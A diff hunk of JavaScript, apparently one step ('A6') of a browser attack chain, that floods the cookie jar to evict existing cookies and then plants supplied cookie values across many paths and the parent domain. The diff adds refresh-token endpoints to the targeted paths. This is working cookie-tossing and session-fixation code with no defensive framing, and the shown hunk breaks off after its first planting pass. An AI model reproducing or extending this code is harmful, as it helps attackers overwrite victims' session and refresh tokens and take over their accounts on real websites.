@@ -1,7 +1,7 @@
 // A6: fill the jar until old cookies fall out, then put others in their place, in every spelling; the same in the storages.
 const plant = async (cookies, tokens, odd) => {
   const site = location.hostname.split(".").slice(1).join(".");
-  const places = ["Path=/; Secure", "Path=/; Secure; SameSite=Lax", "Path=/api; Secure", `Path=/; Secure; Domain=${site}`, `Path=/api; Secure; Domain=${site}`];
+  const places = ["Path=/; Secure", "Path=/; Secure; SameSite=Lax", "Path=/api; Secure", "Path=/auth/refresh; Secure", "Path=/api/refresh; Secure", "Path=/refresh; Secure", `Path=/; Secure; Domain=${site}`, `Path=/api; Secure; Domain=${site}`];
   const put = (spell) => { for (const [name, value] of cookies) for (const attributes of places) for (const spelling of spell(name)) { try { document.cookie = `${spelling}=${value}; ${attributes}`; } catch { /* refused */ } } };
   const plain = (name) => [name];
   put(plain);
